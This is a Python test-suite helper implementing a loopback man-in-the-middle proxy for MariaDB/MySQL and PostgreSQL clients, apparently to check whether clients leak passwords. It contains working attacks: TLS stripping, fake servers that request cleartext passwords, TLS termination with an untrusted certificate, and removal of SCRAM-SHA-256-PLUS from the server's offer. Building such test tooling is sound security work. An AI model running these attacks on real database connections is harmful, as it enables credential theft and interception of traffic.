"""A man in the middle between the function and a database, for the TLS suite (mitm_suite.py).

It listens on 127.0.0.1 and, for each connection from the number `first_attacked` on, runs one
attack; earlier connections are relayed untouched (TLS, if any, stays end to end). It records
every byte it receives from the client: as read from the socket, and, where it terminated TLS
itself, what it decrypted. Nothing is printed; the suite searches the recordings.

Attacks (ATTACKS):
  strip               downgrade, relayed to the real server in plaintext. MySQL: CLIENT_SSL
                      (0x0800) cleared in the server's greeting. PostgreSQL: 'N' to the SSLRequest.
  strip-tls-upstream  the same towards the client, but the man in the middle speaks TLS to the
                      server itself ("a relay that only drops TLS"): the server sees TLS. MySQL
                      needs the login packets' sequence numbers shifted by one for that.
  clear-password      downgrade as above, then it plays the server: MySQL answers the login with
                      an AuthSwitchRequest for mysql_clear_password; PostgreSQL asks for
                      AuthenticationCleartextPassword. After the answer it reports success and
                      refuses every statement (each one is recorded).
  dialog              (MySQL) as clear-password with the `dialog` plugin, asking for the password.
  clear-password-tls, dialog-tls
                      as above, but it offers TLS and terminates it with its own certificate
                      (from a CA nobody trusts), then asks for the password inside.
  tls-relay           terminates TLS with its own certificate and relays to the real server in
                      plaintext: what a client that does not verify the certificate gives away.

Python standard library only; one thread per connection; every wait is bounded.
"""

from __future__ import annotations

import dataclasses
import select
import socket
import ssl
import struct
import threading

import wire

ATTACKS = {
    "mariadb": ("strip", "strip-tls-upstream", "clear-password", "dialog", "clear-password-tls",
                "dialog-tls", "tls-relay"),
    "postgres": ("strip", "strip-tls-upstream", "clear-password", "clear-password-tls",
                 "tls-relay"),
}
TIMEOUT_SECONDS = 20  # any single wait for a peer
COMMANDS_KEPT = 50  # statements a fake server accepts (and refuses) before it hangs up


class Closed(Exception):
    """The peer closed the connection (or a wait timed out)."""


@dataclasses.dataclass
class Recording:
    """One connection as the man in the middle saw it."""

    number: int
    attacked: bool
    attack: str = ""
    raw: bytearray = dataclasses.field(default_factory=bytearray)  # read from the client socket
    inner: bytearray = dataclasses.field(default_factory=bytearray)  # decrypted from its TLS
    events: list[str] = dataclasses.field(default_factory=list)


class Side:
    """One socket with exact reads; what is read from the client is recorded."""

    def __init__(self, sock: socket.socket, record: bytearray | None):
        self.sock = sock
        self.record = record
        sock.settimeout(TIMEOUT_SECONDS)

    def read(self, count: int) -> bytes:
        data = bytearray()
        while len(data) < count:
            try:
                chunk = self.sock.recv(count - len(data))
            except (socket.timeout, ssl.SSLError, OSError) as exc:
                raise Closed(f"{type(exc).__name__}: {exc}") from None
            if not chunk:
                raise Closed("closed by the peer")
            data += chunk
            if self.record is not None:
                self.record += chunk
        return bytes(data)

    def send(self, data: bytes) -> None:
        try:
            self.sock.sendall(data)
        except (OSError, ssl.SSLError) as exc:
            raise Closed(f"{type(exc).__name__}: {exc}") from None

    # MySQL
    def read_packet(self) -> tuple[int, bytes]:
        header = self.read(4)
        length = header[0] | header[1] << 8 | header[2] << 16
        return header[3], self.read(length)

    def send_packet(self, seq: int, payload: bytes) -> None:
        self.send(wire.mysql_packet(seq, payload))

    # PostgreSQL
    def read_untyped(self) -> bytes:
        head = self.read(4)
        length = struct.unpack(">I", head)[0]
        if not 8 <= length <= 10000:
            raise Closed(f"untyped message of length {length}")
        return head + self.read(length - 4)

    def read_typed(self) -> bytes:
        head = self.read(5)
        length = struct.unpack(">I", head[1:])[0]
        if not 4 <= length <= 1 << 20:
            raise Closed(f"message of length {length}")
        return head + self.read(length - 4)


class MitmProxy:
    """The listener; `arm()` chooses the attack for the next connections."""

    def __init__(self, engine: str, upstream: tuple[str, int], cert: str, key: str):
        self.engine = engine
        self.upstream = upstream
        self._server_tls = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
        self._server_tls.load_cert_chain(cert, key)
        self._client_tls = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
        self._client_tls.check_hostname = False
        self._client_tls.verify_mode = ssl.CERT_NONE
        self._lock = threading.Lock()
        self._idle = threading.Condition(self._lock)
        self._active = 0
        self._attack: str | None = "strip"
        self._first_attacked = 1
        self._count = 0
        self.recordings: list[Recording] = []
        self._listener = wire.LoopbackListener(self._serve)
        self.port = self._listener.port

    def arm(self, attack: str | None, first_attacked: int = 1) -> None:
        """Attack connections from number `first_attacked` on (None: relay everything)."""
        if attack is not None and attack not in ATTACKS[self.engine]:
            raise ValueError(attack)
        with self._lock:
            self._attack, self._first_attacked = attack, first_attacked
            self._count = 0
            self.recordings = []

    def wait_idle(self, timeout: float) -> bool:
        """Wait until no connection is being served; False if some still are after `timeout`."""
        with self._idle:
            return self._idle.wait_for(lambda: self._active == 0, timeout)

    def close(self) -> None:
        self._listener.close()

    def _serve(self, client: socket.socket) -> None:
        with self._lock:
            self._count += 1
            attacked = self._attack is not None and self._count >= self._first_attacked
            recording = Recording(self._count, attacked, self._attack if attacked else "")
            self.recordings.append(recording)
            self._active += 1
        client.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        sockets = [client]
        try:
            if not recording.attacked:
                upstream = self._connect()
                sockets.append(upstream)
                pump(client, upstream, recording.raw)
                return
            handler = getattr(self, f"_{self.engine}_{recording.attack.replace('-', '_')}")
            handler(client, recording, sockets)
        except Closed as exc:
            recording.events.append(f"ended: {exc}")
        except (OSError, ssl.SSLError, wire.ProtocolError, ValueError, IndexError) as exc:
            recording.events.append(f"ended: {type(exc).__name__}: {exc}")
        finally:
            for sock in sockets:
                try:
                    sock.close()
                except OSError:
                    pass
            with self._idle:
                self._active -= 1
                self._idle.notify_all()

    def _connect(self) -> socket.socket:
        upstream = socket.create_connection(self.upstream, timeout=TIMEOUT_SECONDS)
        upstream.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        return upstream

    def _terminate_tls(self, client: socket.socket, recording: Recording,
                       sockets: list[socket.socket]) -> ssl.SSLSocket:
        """TLS with the client, with the man in the middle's own certificate."""
        client.settimeout(TIMEOUT_SECONDS)
        try:
            wrapped = self._server_tls.wrap_socket(client, server_side=True)
        except (ssl.SSLError, OSError) as exc:
            recording.events.append(f"the client refused TLS with the MITM's certificate ({exc})")
            raise Closed("TLS handshake failed") from None
        sockets.append(wrapped)
        recording.events.append("TLS with the client, terminated by the MITM")
        return wrapped

    def _upstream_tls(self, upstream: socket.socket, sockets: list[socket.socket]) -> ssl.SSLSocket:
        wrapped = self._client_tls.wrap_socket(upstream)
        sockets.append(wrapped)
        return wrapped

    # ------------------------------------------------------------------ MySQL

    def _mysql_greeting(self, upstream: Side) -> wire.Greeting:
        seq, payload = upstream.read_packet()
        if payload[:1] == b"\xff":
            raise Closed("the server refused the connection")
        return wire.Greeting.parse(payload)

    def _mariadb_strip(self, client: socket.socket, recording: Recording,
                       sockets: list[socket.socket]) -> None:
        upstream = self._connect()
        sockets.append(upstream)
        greeting = self._mysql_greeting(Side(upstream, None))
        Side(client, recording.raw).send_packet(
            0, greeting.with_capabilities(greeting.capabilities & ~wire.CLIENT_SSL))
        recording.events.append("sent the greeting without CLIENT_SSL")
        pump(client, upstream, recording.raw)

    def _mariadb_strip_tls_upstream(self, client: socket.socket, recording: Recording,
                                    sockets: list[socket.socket]) -> None:
        upstream = self._connect()
        sockets.append(upstream)
        greeting = self._mysql_greeting(Side(upstream, None))
        near = Side(client, recording.raw)
        near.send_packet(0, greeting.with_capabilities(greeting.capabilities & ~wire.CLIENT_SSL))
        recording.events.append("sent the greeting without CLIENT_SSL")
        seq, login = near.read_packet()
        if len(login) == 32:
            recording.events.append("the client asked for TLS anyway")
            raise Closed("cannot strip TLS from a client that insists on it")
        recording.events.append("the client logged in without TLS")
        capabilities = struct.unpack_from("<I", login, 0)[0] | wire.CLIENT_SSL
        far_plain = Side(upstream, None)
        far_plain.send_packet(1, wire.LoginRequest.with_capabilities(login[:32], capabilities))
        far = Side(self._upstream_tls(upstream, sockets), None)
        far.send_packet(2, wire.LoginRequest.with_capabilities(login, capabilities))
        # The server's login packets are numbered one higher than the client expects.
        relay_mysql_login(near, far, client_to_server=+1)
        pump(near.sock, far.sock, recording.raw)

    def _mariadb_tls_relay(self, client: socket.socket, recording: Recording,
                           sockets: list[socket.socket]) -> None:
        upstream = self._connect()
        sockets.append(upstream)
        greeting = self._mysql_greeting(Side(upstream, None))
        near = Side(client, recording.raw)
        near.send_packet(0, greeting.with_capabilities(greeting.capabilities | wire.CLIENT_SSL))
        seq, login = near.read_packet()
        far = Side(upstream, None)
        if len(login) != 32:
            recording.events.append("the client logged in without TLS")
            far.send_packet(seq, login)
            pump(client, upstream, recording.raw)
            return
        near = Side(self._terminate_tls(client, recording, sockets), recording.inner)
        seq, login = near.read_packet()
        capabilities = struct.unpack_from("<I", login, 0)[0] & ~wire.CLIENT_SSL
        far.send_packet(1, wire.LoginRequest.with_capabilities(login, capabilities))
        relay_mysql_login(near, far, client_to_server=-1)
        pump(near.sock, upstream, recording.inner)

    def _mariadb_fake_server(self, client: socket.socket, recording: Recording,
                             sockets: list[socket.socket], plugin: str, offer_tls: bool) -> None:
        capabilities = wire.SERVER_CAPABILITIES | (wire.CLIENT_SSL if offer_tls else 0)
        near = Side(client, recording.raw)
        near.send_packet(0, wire.fake_greeting(capabilities))
        seq, login = near.read_packet()
        if len(login) == 32:
            if not offer_tls:
                recording.events.append("the client asked for TLS anyway")
                raise Closed("no TLS offered")
            near = Side(self._terminate_tls(client, recording, sockets), recording.inner)
            seq, login = near.read_packet()
        recording.events.append("the client sent its login")
        data = b"\x04\x00" if plugin == "dialog" else b""
        near.send_packet(seq + 1, wire.auth_switch_payload(plugin, data))
        recording.events.append(f"asked for {plugin}")
        seq, answer = near.read_packet()
        recording.events.append(f"the client answered the {plugin} request")
        near.send_packet(seq + 1, wire.ok_packet_payload())
        for _ in range(COMMANDS_KEPT):
            seq, command = near.read_packet()
            if command[:1] == bytes([wire.COM_QUIT]):
                return
            near.send_packet(seq + 1, wire.err_packet_payload(1045, "Access denied"))

    def _mariadb_clear_password(self, client, recording, sockets) -> None:
        self._mariadb_fake_server(client, recording, sockets, "mysql_clear_password", False)

    def _mariadb_dialog(self, client, recording, sockets) -> None:
        self._mariadb_fake_server(client, recording, sockets, "dialog", False)

    def _mariadb_clear_password_tls(self, client, recording, sockets) -> None:
        self._mariadb_fake_server(client, recording, sockets, "mysql_clear_password", True)

    def _mariadb_dialog_tls(self, client, recording, sockets) -> None:
        self._mariadb_fake_server(client, recording, sockets, "dialog", True)

    # ------------------------------------------------------------------ PostgreSQL

    def _pg_first(self, near: Side, recording: Recording, answer: bytes) -> bytes | None:
        """Read the client's first message; answer an SSLRequest with `answer` and return None,
        or return the StartupMessage of a client that asked for no TLS."""
        first = near.read_untyped()
        code = struct.unpack_from(">I", first, 4)[0]
        if code == wire.PG_SSL_REQUEST:
            near.send(answer)
            recording.events.append(f"answered {answer.decode()} to the SSLRequest")
            return None
        if code == wire.PG_PROTOCOL_3:
            recording.events.append("the client sent no SSLRequest")
            return first
        raise Closed(f"unexpected first message (code {code})")

    def _postgres_strip(self, client, recording, sockets, upstream_tls: bool = False) -> None:
        near = Side(client, recording.raw)
        startup = self._pg_first(near, recording, b"N")
        if startup is None:
            startup = near.read_untyped()
            recording.events.append("the client went on without TLS")
        upstream = self._connect()
        sockets.append(upstream)
        if upstream_tls:
            far = Side(upstream, None)
            far.send(struct.pack(">II", 8, wire.PG_SSL_REQUEST))
            if far.read(1) != b"S":
                raise Closed("the server refused TLS")
            upstream = self._upstream_tls(upstream, sockets)
            far = Side(upstream, None)
            far.send(startup)
            # Over TLS the server offers SCRAM-SHA-256-PLUS, which libpq refuses to see on a
            # plaintext connection: the man in the middle hides it.
            relay_pg_login(near, far, recording)
        else:
            Side(upstream, None).send(startup)
        pump(client, upstream, recording.raw)

    def _postgres_strip_tls_upstream(self, client, recording, sockets) -> None:
        self._postgres_strip(client, recording, sockets, upstream_tls=True)

    def _postgres_tls_relay(self, client, recording, sockets) -> None:
        near = Side(client, recording.raw)
        startup = self._pg_first(near, recording, b"S")
        record = recording.raw
        if startup is None:
            client = self._terminate_tls(client, recording, sockets)
            record = recording.inner
        upstream = self._connect()
        sockets.append(upstream)
        if startup is not None:
            Side(upstream, None).send(startup)
        pump(client, upstream, record)

    def _postgres_fake_server(self, client, recording, sockets, offer_tls: bool) -> None:
        near = Side(client, recording.raw)
        startup = self._pg_first(near, recording, b"S" if offer_tls else b"N")
        if startup is None:
            if offer_tls:
                near = Side(self._terminate_tls(client, recording, sockets), recording.inner)
            startup = near.read_untyped()
        recording.events.append("the client sent its StartupMessage")
        near.send(wire.pg_auth_request(3))
        recording.events.append("asked for a cleartext password")
        answer = near.read_typed()
        if answer[:1] != b"p":
            raise Closed(f"the client answered {answer[:1]!r}")
        recording.events.append("the client sent a password message")
        parameters = {"server_version": "15.20", "server_encoding": "UTF8",
                      "client_encoding": "UTF8", "standard_conforming_strings": "on",
                      "integer_datetimes": "on", "DateStyle": "ISO, MDY"}
        reply = wire.pg_auth_request(0)
        for name, value in parameters.items():
            reply += wire.pg_message(b"S", name.encode() + b"\0" + value.encode() + b"\0")
        reply += wire.pg_message(b"K", struct.pack(">II", 4242, 4242)) + wire.pg_ready()
        near.send(reply)
        for _ in range(COMMANDS_KEPT):
            message = near.read_typed()
            if message[:1] == b"X":
                return
            if message[:1] in (b"Q", b"S"):
                near.send(wire.pg_error("permission denied", "42501") + wire.pg_ready())

    def _postgres_clear_password(self, client, recording, sockets) -> None:
        self._postgres_fake_server(client, recording, sockets, False)

    def _postgres_clear_password_tls(self, client, recording, sockets) -> None:
        self._postgres_fake_server(client, recording, sockets, True)


def relay_mysql_login(near: Side, far: Side, client_to_server: int) -> None:
    """Relay the rest of a MySQL login (after the client's login packet) with the sequence
    numbers shifted by `client_to_server` towards the server (and back towards the client), until
    the server's OK or error packet."""
    for _ in range(20):
        seq, payload = far.read_packet()
        near.send_packet(seq - client_to_server, payload)
        header = payload[:1]
        if header in (b"\x00", b"\xff"):
            return
        if payload == b"\x01\x03":  # caching_sha2_password fast authentication: OK follows
            continue
        seq, answer = near.read_packet()
        far.send_packet(seq + client_to_server, answer)
    raise Closed("the login did not finish")


def relay_pg_login(near: Side, far: Side, recording: Recording) -> None:
    """Relay a PostgreSQL login up to AuthenticationOk, without SCRAM-SHA-256-PLUS in the
    server's list of SASL mechanisms."""
    for _ in range(20):
        message = far.read_typed()
        if message[:1] == b"E":
            near.send(message)
            raise Closed("the server refused the login")
        if message[:1] != b"R":
            near.send(message)
            continue
        code = struct.unpack_from(">I", message, 5)[0]
        if code == 10:
            mechanisms = [m for m in message[9:].split(b"\0") if m]
            kept = [m for m in mechanisms if not m.endswith(b"-PLUS")]
            if kept != mechanisms:
                recording.events.append("removed SCRAM-SHA-256-PLUS from the server's offer")
            message = wire.pg_auth_request(10, b"".join(m + b"\0" for m in kept) + b"\0")
        near.send(message)
        if code == 0:
            return
        if code in (3, 5, 10, 11):  # the client answers these
            far.send(near.read_typed())
    raise Closed("the login did not finish")


def _flush(sock: socket.socket, buffer: bytearray) -> None:
    while buffer:
        try:
            sent = sock.send(buffer)
        except (BlockingIOError, ssl.SSLWantWriteError, ssl.SSLWantReadError):
            return
        del buffer[:sent]


def pump(client: socket.socket, server: socket.socket, record: bytearray) -> None:
    """Relay both ways until either side closes or stays idle; record what the client sends.
    Non-blocking, so that a TLS record that carries no data (a session ticket) never blocks."""
    out = {client: bytearray(), server: bytearray()}
    for sock in (client, server):
        sock.setblocking(False)
    while True:
        ready = [s for s in (client, server) if isinstance(s, ssl.SSLSocket) and s.pending()]
        if ready:
            writable: list[socket.socket] = []
        else:
            ready, writable, _ = select.select([client, server],
                                               [s for s in out if out[s]], [], TIMEOUT_SECONDS)
            if not ready and not writable:
                return
        for sock in writable:
            _flush(sock, out[sock])
        for sock in ready:
            try:
                data = sock.recv(65536)
            except (BlockingIOError, ssl.SSLWantReadError, ssl.SSLWantWriteError):
                continue
            except (OSError, ssl.SSLError):
                return
            if not data:
                other = server if sock is client else client
                other.setblocking(True)
                other.settimeout(5)
                try:
                    other.sendall(out[other])
                except (OSError, ssl.SSLError):
                    pass
                return
            if sock is client:
                record += data
            other = server if sock is client else client
            out[other] += data
            _flush(other, out[other])
